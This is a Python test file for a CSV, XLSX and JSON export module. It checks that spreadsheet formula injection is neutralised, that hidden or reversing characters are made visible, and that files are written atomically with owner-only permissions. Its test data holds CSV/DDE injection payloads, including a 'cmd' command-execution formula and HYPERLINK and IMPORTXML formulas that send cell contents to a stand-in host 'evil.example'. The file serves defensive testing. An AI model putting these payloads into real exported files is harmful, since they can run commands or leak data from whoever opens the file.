"""Exports of hostile content harm nobody who opens them, and lose nothing in silence."""

import csv
import json
import unicodedata
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import openpyxl  # type: ignore[import-untyped]  # the library has no types
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape  # type: ignore[import-untyped]  # likewise

from muniment.app import exporting
from muniment.app.exporting import FORMATS, MAX_CELL_UNITS, defused, shortened, table_to
from muniment.errors import DiskFullError, UsageError

FORMULAS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\u200d=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    '"=1+1"',
    "'=1+1",
    "\u201c=1+1\u201d",
    "\u00ab=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "\u22121",
]
LATER_CELLS = ["harmless;=1+1", 'a"; "=1+1', "a;\t@SUM(A1)", "a;+1;-1"]
MISLEADING = [
    "\u202egnp.exe",
    "a\u2066b\u2069",
    "a\x1b[31mb",
    "a\u2028b",
    "\ud800",
    "x\udcffy",
    "\ufffe",
    "\x7f",
    "\x85b",
]
KEPT = [
    "朱海仑",
    "ئىلھام توختى",
    "می\u200cخواهم",
    "Zhu Hailun",
    "a = b",
    "x@y.example",
    "1-2",
    "",
    "e\u0301",
    "a; b",
    "👩\u200d👧",
]
IN_WORKBOOKS = [*FORMULAS, *LATER_CELLS, *MISLEADING, "http://evil.example", "internal:A1", "_x003D_1"]

anything = st.text(st.sampled_from("=+-@;'\" \t\uff1d\u200d") | st.characters())


def starts_formula(cell: str) -> bool:
    """What a careful spreadsheet program would run, told otherwise than by the module under test."""
    start = cell.lstrip().lstrip('"\u200c\u200d\u201c\u00ab ')
    return unicodedata.normalize("NFKC", start[:1]) in {"=", "+", "-", "@", "\u2212", "\t", "\r"} and start != ""


def written(folder: Path, suffix: str, rows: Sequence[dict[str, Any]], columns: Sequence[str] = ("text",)) -> Path:
    file = folder / f"out{suffix}"
    with table_to(file, columns) as table:
        for row in rows:
            table.write(row)
        table.finish({"total": len(rows)})
    return file


def cells_of_csv(file: Path) -> list[list[str]]:
    with file.open(encoding="utf-8-sig", newline="") as lines:
        return list(csv.reader(lines))


@pytest.mark.parametrize("attack", [*FORMULAS, *LATER_CELLS])
def test_nothing_that_could_be_a_formula_begins_a_cell(attack: str, tmp_path: Path) -> None:
    (_, [cell]) = cells_of_csv(written(tmp_path, ".csv", [{"text": attack}]))
    assert not starts_formula(cell)
    for part in cell.split(";"):  # a program set to semicolons sees these as cells
        assert not starts_formula(part)


@pytest.mark.parametrize("attack", IN_WORKBOOKS)
def test_a_workbook_holds_texts_only(attack: str, tmp_path: Path) -> None:
    file = written(tmp_path, ".xlsx", [{"text": attack}])
    sheet = openpyxl.load_workbook(file)["Hits"]
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.hyperlink is None
    assert unescape(str(cell.value)) == defused(attack)
    assert not starts_formula(str(cell.value))


@pytest.mark.parametrize("text", MISLEADING)
def test_what_hides_or_reverses_is_made_visible(text: str) -> None:
    assert defused(text).isprintable()
    assert "\\" in defused(text)


@pytest.mark.parametrize("text", KEPT)
def test_honest_text_stays_as_it_is(text: str) -> None:
    assert defused(text) == text


@settings(deadline=None)
@given(anything)
def test_defused_text_is_inert_and_can_be_written(text: str) -> None:
    safe = defused(text)
    safe.encode("utf-8")
    assert not starts_formula(safe)
    assert not {unicodedata.category(char) for char in safe} & {"Cc", "Cs", "Zl", "Zp", "Cn"}
    assert defused(safe) == safe


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=60)
@given(st.lists(st.tuples(anything, anything, st.integers(0, 10**6)), max_size=5))
def test_csv_gives_back_the_cells_up_to_defusing(tmp_path: Path, rows: list[tuple[str, str, int]]) -> None:
    columns = ["one", "two", "three"]
    file = written(tmp_path, ".csv", [dict(zip(columns, row, strict=True)) for row in rows], columns)
    assert cells_of_csv(file) == [columns, *([defused(one), defused(two), str(three)] for one, two, three in rows)]
    assert len(file.read_bytes().split(b"\r\n")) == len(rows) + 2, "each row is one line"


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=40)
@given(st.lists(anything, max_size=4))
def test_json_gives_back_the_very_values(tmp_path: Path, texts: list[str]) -> None:
    file = written(tmp_path, ".json", [{"text": text} for text in texts])
    joined = json.loads(json.dumps(texts))  # two halves of one character, side by side, are one to every JSON reader
    assert json.loads(file.read_text("utf-8")) == {"hits": [{"text": text} for text in joined], "total": len(texts)}


def test_hostile_column_names_are_defused_too(tmp_path: Path) -> None:
    assert cells_of_csv(written(tmp_path, ".csv", [], ["=1+1"])) == [["'=1+1"]]


def test_a_cell_too_long_for_a_workbook_is_shortened_and_says_so(tmp_path: Path) -> None:
    long = "😀" * 20_000
    with table_to(tmp_path / "a.xlsx", ["text", "more"]) as table:
        table.write({"text": long, "more": "x" * MAX_CELL_UNITS})
        table.finish({})
        assert table.shortened == 1
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    cell = str(book["Hits"]["A2"].value)
    assert cell.endswith("[shortened from 20,000 characters]")
    assert len(cell.encode("utf-16-le")) // 2 <= MAX_CELL_UNITS
    assert book["Hits"]["B2"].value == "x" * MAX_CELL_UNITS
    assert ("shortened_cells", "1") in {(row[0].value, row[1].value) for row in book["About"].iter_rows()}


@settings(deadline=None)
@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=200), st.integers(60, 120))
def test_shortening_keeps_within_the_limit_and_keeps_what_fits(text: str, most: int) -> None:
    fits = shortened(text, most)
    assert len(fits.encode("utf-16-le")) // 2 <= most
    assert fits == text or (len(text.encode("utf-16-le")) // 2 > most and "[shortened" in fits)


def test_rows_beyond_a_sheet_go_to_a_further_one(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exporting, "MAX_SHEET_ROWS", 3)
    book = openpyxl.load_workbook(written(tmp_path, ".xlsx", [{"text": str(number)} for number in range(5)]))
    assert book.sheetnames == ["Hits", "Hits 2", "Hits 3", "About"]
    assert [book[name]["A2"].value for name in book.sheetnames[:3]] == ["0", "2", "4"]
    assert all(book[name]["A1"].value == "text" for name in book.sheetnames[:3])


@pytest.mark.parametrize("suffix", FORMATS)
def test_a_file_appears_whole_or_not_at_all(suffix: str, tmp_path: Path) -> None:
    file = tmp_path / f"out{suffix}"
    file.write_text("what was there")
    with pytest.raises(ZeroDivisionError), table_to(file, ["text"]) as table:
        table.write({"text": "half", "more": 1 // 0})
    assert [path.name for path in tmp_path.iterdir()] == [file.name]
    assert file.read_text() == "what was there"


@pytest.mark.parametrize("suffix", FORMATS)
def test_a_file_is_for_its_owner_only(suffix: str, tmp_path: Path) -> None:
    assert written(tmp_path, suffix, [{"text": "a"}]).stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize("suffix", FORMATS)
def test_a_full_disk_is_told_in_plain_words(suffix: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(descriptor: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("muniment.app.exporting.os.fsync", full)
    with pytest.raises(DiskFullError):
        written(tmp_path, suffix, [{"text": "a"}])
    assert not list(tmp_path.iterdir())


def test_other_endings_and_places_that_are_not_there_are_refused(tmp_path: Path) -> None:
    for place in (tmp_path / "a.txt", tmp_path / "none" / "a.csv", tmp_path / "plain"):
        with pytest.raises(UsageError), table_to(place, ["text"]):
            pass
